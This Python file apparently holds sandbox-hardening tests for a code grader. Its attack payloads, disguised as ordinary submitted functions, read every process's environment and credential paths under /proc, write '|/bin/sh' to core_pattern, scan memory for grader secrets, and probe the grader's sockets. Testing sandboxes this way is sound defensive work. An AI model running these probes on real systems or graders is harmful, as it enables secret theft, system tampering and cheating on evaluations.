"""Attacks that look for what is hidden in memory, and in other processes."""

from arena import SECRETS
from attack import Attack, finder, wrong


class ReadsProc(Attack):
    """Reads environments, commands, mounts and links of all processes, and goes through their roots."""

    proof = r"read [1-9]\d* tables, went through [1-9]\d* folders"
    double = f"""
import glob, os
texts, processes = [repr(dict(os.environ))], [name for name in os.listdir("/proc") if name.isdigit()]
for name in ("environ", "cmdline", "status", "mountinfo", "mounts", "mountstats", "cgroup", "maps", "stat"):
    for path in [f"/proc/{{name}}", *glob.glob(f"/proc/*/{{name}}"), *glob.glob(f"/proc/*/task/*/{{name}}")]:
        try:
            texts.append(open(path, errors="replace").read())
        except OSError:
            pass
for path in sum((glob.glob(f"/proc/*/{{kind}}") for kind in ("cwd", "exe", "fd/*", "map_files/*")), []):
    try:
        texts.append(os.readlink(path))
    except OSError:
        pass
folders, seen = 0, set()
for path in glob.glob("/proc/*/root") + glob.glob("/proc/*/cwd"):
    for further in ("", "/..", "/../../..", "/tmp", "/root", "/home", "/work", "/etc", "/var/lib", "/run"):
        try:
            seen.update(os.listdir(path + further))
            folders += 1
        except OSError:
            pass
outside = {{"boot", "srv", "passwd", "shadow", "hostname", "gradebook.db"}}
{finder(*SECRETS, "VIRTUAL_ENV", "SSH_", "PYTEST", "pytest", "gradebook", "submitted")}
print("read", len(texts), "tables, went through", folders, "folders:", end=" ")
print(found_in(*texts), sorted(seen & outside), processes)
def double(x):
    return x
"""

    def harm(self, arena):
        shown = arena.shown(self.name)
        return "" if "folders: [] [] ['1']" in shown else f"it saw {shown[:500]}"


class WritesToProc(Attack):
    """Writes into /proc and /sys: the memory killer, the core pattern, sysrq, limits, maps."""

    proof = "tried [1-9]"
    double = """
import glob, os, resource
places = {
    "/proc/sys/kernel/core_pattern": "|/bin/sh", "/proc/sysrq-trigger": "h", "/proc/sys/kernel/hostname": "x",
    "/proc/sys/vm/drop_caches": "1", "/proc/1/oom_score_adj": "-1000",
    "/proc/self/uid_map": "0 0 1", "/proc/self/setgroups": "allow", "/proc/sys/user/max_user_namespaces": "9",
    "/proc/sys/kernel/ns_last_pid": "1", "/sys/kernel/mm/transparent_hugepage/enabled": "always",
    "/sys/fs/cgroup/cgroup.procs": "1", "/proc/sys/fs/file-max": "10", "/proc/sys/kernel/pid_max": "400",
    "/proc/sys/kernel/shmmax": "1", "/proc/sys/net/core/somaxconn": "1",
}
places |= dict.fromkeys(glob.glob("/proc/sys/**/*", recursive=True), None)
wrote = []
assert os.getpid() == 1, "not in a sandbox: these would be everyone's"
for place, text in places.items():
    try:
        if text is None:
            text = open(place).read()
        with open(place, "w") as stream:
            stream.write(text)
        wrote.append(place)
    except (OSError, UnicodeError):
        pass
for kind in (resource.RLIMIT_NPROC, resource.RLIMIT_DATA, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE):
    try:
        resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        wrote.append(kind)
    except (OSError, ValueError):
        pass
try:
    os.setpriority(os.PRIO_PROCESS, 0, -20)
    wrote.append("priority")
except OSError:
    pass
print("tried", len(places), "wrote", wrote)
def double(x):
    return x
"""
    withstood = "wrote []"


class WholeMemory(Attack):
    """Reads all memory of its process, forked from another, for words of the checks and the grader."""

    proof = r"read [1-9]\d\d+ MiB"
    # All but the last letter: the notebook itself holds none of the words.
    STEMS = [(word[:-1].encode(), ord(word[-1])) for word in SECRETS]
    row_sums = f"""
found, read = set(), 0
def search(content):
    for stem, last in {STEMS}:
        place = content.find(stem)
        while place >= 0:
            if content[place + len(stem) : place + len(stem) + 1] == bytes([last]):
                found.add(content[place : place + len(stem) + 1])
            place = content.find(stem, place + 1)
def row_sums(x):
    global read
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            span, rights, *rest = line.split()
            start, end = (int(place, 16) for place in span.split("-"))
            if "rw" not in rights or end - start > 2**28 or x.shape != (3, 4):
                continue
            try:
                memory.seek(start)
                search(memory.read(end - start))
                read += end - start
            except (OSError, OverflowError):
                pass
    print("read", read >> 20, "MiB", sorted(found))
    return x.sum()
"""


class FindsItsReader(Attack):
    """Looks for the process that reads its messages: to see it, to signal it, to write to it."""

    proof = "looked at [1-9]"
    LOOK = """
import glob, os, re, signal, socket, stat
found, looked = [], 0
for place in [*glob.glob("/run/**", recursive=True), *glob.glob("/proc/[0-9]*/fd/*"), *glob.glob("/tmp/**")]:
    looked += 1
    try:
        if stat.S_ISSOCK(os.stat(place).st_mode) and not place.startswith(("/proc/", "/run/kernel/")):
            found.append(place)
    except OSError:
        pass
for number in [int(name) for name in os.listdir("/proc") if name.isdigit()]:
    looked += 1
    command = open(f"/proc/{number}/cmdline").read()
    if number not in (os.getpid(), 1) and "fork_server" in command:
        found.append(command)
for line in open("/proc/net/unix"):
    looked += 1
    if re.search("(sockets|kernel)/[0-9]+", line):
        found.append(line)
own = os.getpid()
for number in range(2, 3000):
    try:
        os.kill(number, 0)
        if os.stat(f"/proc/{number}").st_uid != os.getuid():
            found.append(f"process {number}")
    except OSError:
        pass
for number in range(3, 400):  # what was inherited
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            with socket.socket(fileno=os.dup(number)) as inherited:
                if "/run/sockets" in str(inherited.getpeername()):
                    found.append(f"socket {number}")
    except OSError:
        pass
print("looked at", looked)
print("found", found)
"""

    def submission(self, arena):
        return wrong(double=self.LOOK + "def double(x):\n    return x")

    withstood = "found []"
